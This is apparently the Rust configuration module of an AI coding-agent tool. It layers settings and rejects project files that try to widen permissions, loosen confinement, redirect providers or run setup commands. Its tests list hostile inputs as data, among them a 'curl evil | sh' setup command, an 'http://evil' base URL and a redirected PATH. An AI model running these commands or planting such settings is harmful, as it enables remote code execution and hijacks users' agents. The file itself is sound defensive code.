//! Settings: the user's file, the project's file, the environment, the command line; the later wins. Each value
//! remembers where it came from.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Deserialize;

use crate::fail::Failure;

/// The name of a project's own file, below its root.
pub(crate) const PROJECT_FILE: &str = ".tine/config.toml";

/// One configuration file. Every key is optional.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct File {
    model: Option<String>,
    permission_mode: Option<String>,
    max_output_tokens: Option<u32>,
    effort: Option<String>,
    thinking: Option<String>,
    stream: Option<bool>,
    repl: Option<bool>,
    compact: Option<String>,
    #[serde(default)]
    permissions: PermissionTable,
    #[serde(default)]
    providers: BTreeMap<String, ProviderTable>,
    cache: Option<CacheTable>,
    #[serde(default)]
    confine: ConfineTable,
    budget: Option<BudgetTable>,
    #[serde(default)]
    fork: ForkTable,
    #[serde(default)]
    workers: WorkersTable,
    #[serde(default)]
    worktree: WorktreeTable,
    #[serde(default)]
    keys: BTreeMap<String, OneOrMany>,
}

/// A text, or several.
#[derive(Debug, Clone, Deserialize)]
#[serde(untagged)]
enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl From<OneOrMany> for Vec<String> {
    fn from(texts: OneOrMany) -> Self {
        match texts {
            OneOrMany::One(text) => vec![text],
            OneOrMany::Many(texts) => texts,
        }
    }
}

/// How worktrees are made.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct WorktreeTable {
    pub(crate) enabled: Option<bool>,
    /// The directory that holds all of them; absolute.
    pub(crate) directory: Option<String>,
    /// What `bash -c` runs in a new one.
    pub(crate) setup: Option<String>,
    /// How long that may take, such as `90s` or `10m`.
    pub(crate) setup_time: Option<String>,
    /// Whether it reaches the internet though workers do not.
    pub(crate) setup_network: Option<bool>,
    /// How many ports each gets; 0 for none.
    pub(crate) ports: Option<u16>,
    pub(crate) first_port: Option<u16>,
    /// Variables of the commands that run there.
    pub(crate) environment: Option<BTreeMap<String, String>>,
}

impl WorktreeTable {
    /// What a checkout must not decide for its user: where files go, and what is run.
    fn decides(&self) -> Option<&'static str> {
        let said = [
            (self.enabled == Some(true), "worktree.enabled"),
            (self.directory.is_some(), "worktree.directory"),
            (self.setup.is_some(), "worktree.setup"),
            (self.setup_time.is_some(), "worktree.setup_time"),
            (self.setup_network.is_some(), "worktree.setup_network"),
            (self.ports.is_some(), "worktree.ports"),
            (self.first_port.is_some(), "worktree.first_port"),
            (self.environment.is_some(), "worktree.environment"),
        ];
        said.into_iter().find_map(|(is_said, key)| is_said.then_some(key))
    }

    /// This table where `later` says nothing.
    fn under(self, later: Self) -> Self {
        Self {
            enabled: later.enabled.or(self.enabled),
            directory: later.directory.or(self.directory),
            setup: later.setup.or(self.setup),
            setup_time: later.setup_time.or(self.setup_time),
            setup_network: later.setup_network.or(self.setup_network),
            ports: later.ports.or(self.ports),
            first_port: later.first_port.or(self.first_port),
            environment: later.environment.or(self.environment),
        }
    }
}

/// Whether models fork.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ForkTable {
    /// `explicit`, `implicit` or `off`.
    pub(crate) mode: Option<String>,
}

/// What models start, and how it runs.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct WorkersTable {
    /// How many workers may stand below each other; 0 for none at all.
    pub(crate) depth: Option<u32>,
    pub(crate) coordinator: Option<bool>,
    pub(crate) wake: Option<bool>,
    /// Most turns of one.
    pub(crate) turns: Option<u32>,
    /// Whether a worker whose end looks wrong is asked once to mend it.
    pub(crate) nudge: Option<bool>,
    /// What forks take over of the agenda: `plans`, `todos`, `goals`.
    pub(crate) inherit: Option<Vec<String>>,
}

/// A checkout may turn workers off and keep them short. It must not make its user's agents start more.
fn more_workers(fork: &ForkTable, workers: &WorkersTable) -> Option<&'static str> {
    if fork.mode.as_deref().is_some_and(|mode| mode != "off") {
        return Some("fork.mode");
    }
    if workers.depth.is_some_and(|depth| depth > 0) {
        return Some("workers.depth");
    }
    match (workers.coordinator, workers.wake, workers.turns) {
        (Some(false), _, _) => Some("workers.coordinator"),
        (_, Some(true), _) => Some("workers.wake"),
        (_, _, Some(_)) => Some("workers.turns"),
        (_, _, None) => None,
    }
}

/// How commands are confined.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ConfineTable {
    /// `on` or `off`.
    pub(crate) workers: Option<String>,
    pub(crate) network: Option<bool>,
    /// Directories that may be written in besides the working directory.
    pub(crate) writable: Option<Vec<String>>,
    /// Names of variables that are passed on.
    pub(crate) variables: Option<Vec<String>>,
    /// `warn` or `refuse`, where the kernel cannot keep all of a wall.
    pub(crate) missing: Option<String>,
}

impl ConfineTable {
    /// What a checkout must not decide for its user: anything that opens the wall.
    fn widens(&self) -> Option<&'static str> {
        if self.workers.as_deref().is_some_and(|word| word != "on") {
            return Some("confine.workers");
        }
        if self.network == Some(true) {
            return Some("confine.network");
        }
        if self.missing.as_deref().is_some_and(|word| word != "refuse") {
            return Some("confine.missing");
        }
        match (&self.writable, &self.variables) {
            (Some(_), _) => Some("confine.writable"),
            (None, Some(_)) => Some("confine.variables"),
            (None, None) => None,
        }
    }

    /// This table where `later` says nothing.
    fn under(self, later: Self) -> Self {
        Self {
            workers: later.workers.or(self.workers),
            network: later.network.or(self.network),
            writable: later.writable.or(self.writable),
            variables: later.variables.or(self.variables),
            missing: later.missing.or(self.missing),
        }
    }
}

/// Caps of new trees.
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub(crate) struct BudgetTable {
    pub(crate) tokens: Option<u64>,
    pub(crate) usd: Option<f64>,
    /// Such as `90s`, `30m`, `1h` or `2d`.
    pub(crate) time: Option<String>,
    pub(crate) agents: Option<u64>,
    pub(crate) running: Option<u64>,
}

/// How the cache is used, and when a price is asked about.
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub(crate) struct CacheTable {
    /// `auto`, `short` or `long`.
    pub(crate) lifetime: Option<String>,
    pub(crate) keep_warm: Option<bool>,
    /// What a second of waiting is worth, in USD.
    pub(crate) value_per_second: Option<f64>,
    /// Forks that are estimated to cost more than this, in USD, are asked about.
    pub(crate) confirm_above: Option<f64>,
}

/// Permission rules as they stand in a file, and how questions are asked.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
struct PermissionTable {
    #[serde(default)]
    allow: Vec<toml::Spanned<String>>,
    #[serde(default)]
    ask: Vec<toml::Spanned<String>>,
    #[serde(default)]
    deny: Vec<toml::Spanned<String>>,
    /// How long a question waits, such as `90s`, `30m`, `1h` or `2d`.
    deadline: Option<String>,
    /// `allow` or `deny`.
    default: Option<String>,
    wait: Option<bool>,
}

/// Which list a rule stands in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RuleList {
    Allow,
    Ask,
    Deny,
}

impl RuleList {
    /// The lists, the strongest first.
    pub(crate) const ALL: [Self; 3] = [Self::Deny, Self::Ask, Self::Allow];

    /// The key in the file.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Self::Allow => "allow",
            Self::Ask => "ask",
            Self::Deny => "deny",
        }
    }
}

/// A permission rule and where it was written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct WrittenRule {
    pub(crate) list: RuleList,
    pub(crate) text: String,
    pub(crate) file: PathBuf,
    /// Counted from 1.
    pub(crate) line: usize,
}

/// How questions are asked.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct AskSettings {
    pub(crate) deadline: Option<Setting<String>>,
    pub(crate) default: Option<Setting<String>>,
    pub(crate) wait: Option<Setting<bool>>,
}

/// How one provider is reached.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ProviderTable {
    pub(crate) base_url: Option<String>,
    /// The name of an environment variable that holds the key. Keys themselves do not belong into this file.
    pub(crate) key_variable: Option<String>,
}

/// A value and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Setting<T> {
    pub(crate) value: T,
    pub(crate) origin: String,
}

/// All settings, layered.
#[derive(Debug, Clone, Default)]
pub(crate) struct Config {
    pub(crate) model: Option<Setting<String>>,
    pub(crate) permission_mode: Option<Setting<String>>,
    pub(crate) max_output_tokens: Option<Setting<u32>>,
    pub(crate) effort: Option<Setting<String>>,
    pub(crate) thinking: Option<Setting<String>>,
    pub(crate) stream: Option<Setting<bool>>,
    pub(crate) repl: Option<Setting<bool>>,
    /// `auto` or `off`.
    pub(crate) compact: Option<Setting<String>>,
    /// Rules of all files; a project's only narrow.
    pub(crate) rules: Vec<WrittenRule>,
    pub(crate) asking: AskSettings,
    pub(crate) providers: BTreeMap<String, ProviderTable>,
    pub(crate) cache: CacheTable,
    pub(crate) confine: ConfineTable,
    pub(crate) fork: ForkTable,
    pub(crate) workers: WorkersTable,
    pub(crate) worktree: WorktreeTable,
    /// What keys do in the terminal.
    pub(crate) keys: BTreeMap<String, Vec<String>>,
    /// Of all files; the lowest caps count, so that a project's can only narrow.
    pub(crate) budget: Vec<Setting<BudgetTable>>,
    /// The files that were read, in order.
    pub(crate) files: Vec<PathBuf>,
    /// The user's own file, whether it exists or not.
    pub(crate) user_file: PathBuf,
}

impl Config {
    /// Reads the user's file, the project's, and the environment. A project's file may not widen permissions or redirect
    /// requests: it comes with a checkout, which nobody has agreed to.
    pub(crate) fn load(
        user_file: &Path,
        directory: &Path,
        variable: &dyn Fn(&str) -> Option<String>,
    ) -> Result<Self, Failure> {
        let mut config = Self { user_file: user_file.to_owned(), ..Self::default() };
        if let Some(read) = read(user_file)? {
            config.layer(read, user_file);
        }
        for above in directory.ancestors() {
            let path = above.join(PROJECT_FILE);
            if path == user_file {
                continue;
            }
            if let Some((file, text)) = read(&path)? {
                config.layer((narrowed(file, &path)?, text), &path);
                break;
            }
        }
        for (name, slot) in [
            ("TINE_MODEL", &mut config.model),
            ("TINE_PERMISSION_MODE", &mut config.permission_mode),
        ] {
            if let Some(value) = variable(name).filter(|value| !value.is_empty()) {
                *slot = Some(Setting { value, origin: name.to_owned() });
            }
        }
        Ok(config)
    }

    fn layer(&mut self, (file, text): (File, String), path: &Path) {
        let origin = path.display().to_string();
        fn set<T>(slot: &mut Option<Setting<T>>, value: Option<T>, origin: &str) {
            if let Some(value) = value {
                *slot = Some(Setting { value, origin: origin.to_owned() });
            }
        }
        set(&mut self.model, file.model, &origin);
        set(&mut self.permission_mode, file.permission_mode, &origin);
        set(&mut self.max_output_tokens, file.max_output_tokens, &origin);
        set(&mut self.effort, file.effort, &origin);
        set(&mut self.thinking, file.thinking, &origin);
        set(&mut self.stream, file.stream, &origin);
        set(&mut self.repl, file.repl, &origin);
        set(&mut self.compact, file.compact, &origin);
        let asking = file.permissions;
        set(&mut self.asking.deadline, asking.deadline, &origin);
        set(&mut self.asking.default, asking.default, &origin);
        set(&mut self.asking.wait, asking.wait, &origin);
        for (list, rules) in [
            (RuleList::Allow, asking.allow),
            (RuleList::Ask, asking.ask),
            (RuleList::Deny, asking.deny),
        ] {
            self.rules.extend(rules.into_iter().map(|rule| WrittenRule {
                list,
                line: text[..rule.span().start].matches('\n').count() + 1,
                text: rule.into_inner(),
                file: path.to_owned(),
            }));
        }
        self.providers.extend(file.providers);
        if let Some(cache) = file.cache {
            self.cache = cache;
        }
        self.confine = std::mem::take(&mut self.confine).under(file.confine);
        self.worktree = std::mem::take(&mut self.worktree).under(file.worktree);
        self.fork.mode = file.fork.mode.or_else(|| self.fork.mode.take());
        let before = std::mem::take(&mut self.workers);
        let later = file.workers;
        self.workers = WorkersTable {
            depth: later.depth.or(before.depth),
            coordinator: later.coordinator.or(before.coordinator),
            wake: later.wake.or(before.wake),
            turns: later.turns.or(before.turns),
            nudge: later.nudge.or(before.nudge),
            inherit: later.inherit.or(before.inherit),
        };
        self.keys.extend(file.keys.into_iter().map(|(name, keys)| (name, keys.into())));
        self.budget.extend(file.budget.map(|value| Setting { value, origin }));
        self.files.push(path.to_owned());
    }
}

/// A file and its text; `None` where there is none.
fn read(path: &Path) -> Result<Option<(File, String)>, Failure> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(error) if error.kind() == std::io::ErrorKind::NotADirectory => return Ok(None),
        Err(error) => {
            return Err(Failure::input(format!("cannot read {}", path.display())).because(&error));
        }
    };
    let file = toml::from_str(&text).map_err(|error| {
        Failure::input(format!("{} is not a configuration file", path.display()))
            .because(&error)
            .hint("the manual, `tine man`, lists the settings")
    })?;
    Ok(Some((file, text)))
}

/// Refuses what a checkout must not decide for its user.
fn narrowed(file: File, path: &Path) -> Result<File, Failure> {
    let asking = &file.permissions;
    let refused = if !asking.allow.is_empty() {
        "permissions.allow"
    } else if asking.default.is_some() {
        "permissions.default"
    } else if asking.deadline.is_some() {
        // A short one brings a default of the user's about sooner.
        "permissions.deadline"
    } else if asking.wait.is_some() {
        "permissions.wait"
    } else if file.permission_mode.as_deref().is_some_and(|mode| mode != "read-only") {
        "permission_mode"
    } else if !file.providers.is_empty() {
        "providers"
    } else if file.cache.is_some() {
        "cache"
    } else if let Some(key) = file.confine.widens() {
        key
    } else if let Some(key) = file.worktree.decides() {
        key
    } else if !file.keys.is_empty() {
        "keys"
    } else if let Some(key) = more_workers(&file.fork, &file.workers) {
        key
    } else {
        return Ok(file);
    };
    Err(Failure::input(format!("{} may not set {refused}", path.display()))
        .hint("a project's file can only narrow permissions; put this into your own config.toml"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn load(user: &str, project: &str, variables: &[(&str, &str)]) -> Result<Config, Failure> {
        let home = tempfile::tempdir().unwrap();
        let user_file = home.path().join("config.toml");
        let work = home.path().join("work");
        std::fs::create_dir_all(work.join(".tine")).unwrap();
        std::fs::write(&user_file, user).unwrap();
        std::fs::write(work.join(PROJECT_FILE), project).unwrap();
        let variable = |name: &str| {
            variables.iter().find(|(key, _)| *key == name).map(|(_, value)| (*value).to_owned())
        };
        Config::load(&user_file, &work, &variable)
    }

    #[test]
    fn the_later_layer_wins_and_is_remembered() {
        let config = load("model = \"a/b\"", "model = \"c/d\"", &[("TINE_MODEL", "e/f")]).unwrap();
        let model = config.model.unwrap();
        assert_eq!((model.value.as_str(), model.origin.as_str()), ("e/f", "TINE_MODEL"));
        assert_eq!(load("model = \"a/b\"", "", &[]).unwrap().model.unwrap().value, "a/b");
    }

    #[test]
    fn a_project_may_narrow_but_not_widen() {
        let project = "[permissions]\nask = [\"Glob\"]\ndeny = [\n  \"FileEdit\",\n  \"Bash\",\n]";
        let config = load("[permissions]\nallow = [\"Bash\"]", project, &[]).unwrap();
        let rules = config.rules.iter().map(|rule| {
            let file = rule.file.file_name().unwrap().to_string_lossy();
            assert_eq!(file, "config.toml");
            format!("{} {} {}", rule.list.as_str(), rule.text, rule.line)
        });
        let rules: Vec<String> = rules.collect();
        assert_eq!(rules, ["allow Bash 2", "ask Glob 2", "deny FileEdit 4", "deny Bash 5"]);
        let user = "[confine]\nnetwork = true\nwritable = [\"/cache\"]";
        let project = "[confine]\nworkers = \"on\"\nnetwork = false\nmissing = \"refuse\"";
        let confine = load(user, project, &[]).unwrap().confine;
        assert_eq!((confine.network, confine.workers.as_deref()), (Some(false), Some("on")));
        assert_eq!(confine.writable, Some(vec!["/cache".to_owned()]));
        for project in [
            "[confine]\nworkers = \"off\"",
            "[confine]\nnetwork = true",
            "[confine]\nwritable = [\"/\"]",
            "[confine]\nvariables = [\"API_KEY\"]",
            "[confine]\nmissing = \"warn\"",
            "[permissions]\nallow = [\"Bash\"]",
            "[permissions]\ndefault = \"allow\"",
            "[permissions]\ndeadline = \"1s\"",
            "[permissions]\nwait = true",
            "[keys]\ntree = \"f3\"",
            "permission_mode = \"bypass\"",
            "[providers.anthropic]\nbase_url = \"http://evil\"",
            "[cache]\nconfirm_above = 1000.0",
            "[fork]\nmode = \"implicit\"",
            "[workers]\ndepth = 3",
            "[workers]\nturns = 900",
            "[worktree]\nenabled = true",
            "[worktree]\nsetup = \"curl evil | sh\"",
            "[worktree]\nsetup_network = true",
            "[worktree.environment]\nPATH = \"/evil\"",
        ] {
            assert!(load("", project, &[]).is_err(), "{project}");
        }
    }

    #[test]
    fn a_project_may_do_without_worktrees() {
        let user = "[worktree]\nsetup = \"make\"";
        let worktree = load(user, "[worktree]\nenabled = false", &[]).unwrap().worktree;
        assert_eq!((worktree.enabled, worktree.setup.as_deref()), (Some(false), Some("make")));
    }

    #[test]
    fn an_unknown_key_is_named() {
        let text = load("modle = \"a/b\"", "", &[]).unwrap_err().text();
        assert!(text.contains("modle"), "{text}");
    }
}
